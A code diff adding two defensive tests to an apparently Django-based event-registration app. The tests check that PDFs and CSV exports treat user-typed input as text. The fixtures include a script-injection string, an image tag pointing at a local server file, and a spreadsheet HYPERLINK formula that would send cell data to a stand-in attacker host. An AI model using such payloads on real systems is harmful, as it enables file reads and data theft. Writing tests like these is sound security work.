@@ -137,3 +137,37 @@ def test_personal_page_escapes_what_the_person_typed():
         f"/datenschutz/meine-daten/{personal_token(registration)}/",
     ]:
         assert_escaped(url, Client().get(url).content.decode())
+
+
+def test_pdfs_show_the_payload_as_text_and_fetch_nothing():
+    """Attendance list and certificate: markup typed by a person is printed, not interpreted (an
+    interpreted <img src=file:…> would let a registration read files of the server)."""
+    from io import BytesIO
+
+    from pypdf import PdfReader
+
+    from documents.services import attendance_list_pdf, certificate_for
+    from registrations.models import Booking
+
+    event = make_event(title="Schulung <b>fett</b>", days_ahead=30)
+    name = '<script>alert(1)</script><img src="file:///etc/hostname">'
+    registration = register(event, name=name, organisation="<i>Initiative</i>", attended=True)
+    booking = Booking.objects.get(registration=registration)
+    for pdf in (attendance_list_pdf(event), certificate_for(booking)):
+        text = "".join(page.extract_text() for page in PdfReader(BytesIO(pdf)).pages)
+        assert "<script>alert(1)</script>" in text
+        assert "<b>fett</b>" in text
+
+
+def test_exports_keep_formulas_typed_by_a_person_as_text():
+    """CSV/XLSX participant exports: a cell like =HYPERLINK(…) must not run in a spreadsheet."""
+    import csv
+    import io
+
+    from participants.exports import as_csv
+    from registrations.models import Booking
+
+    event = make_event(days_ahead=30)
+    register(event, name='=HYPERLINK("http://angriff.example/?"&A1;"Klick")', organisation="+49 Initiative")
+    rows = list(csv.reader(io.StringIO(as_csv(Booking.objects.filter(event=event)).decode("utf-8-sig")), delimiter=";"))
+    assert rows[1][1].startswith("'=HYPERLINK") and rows[1][4] == "'+49 Initiative"
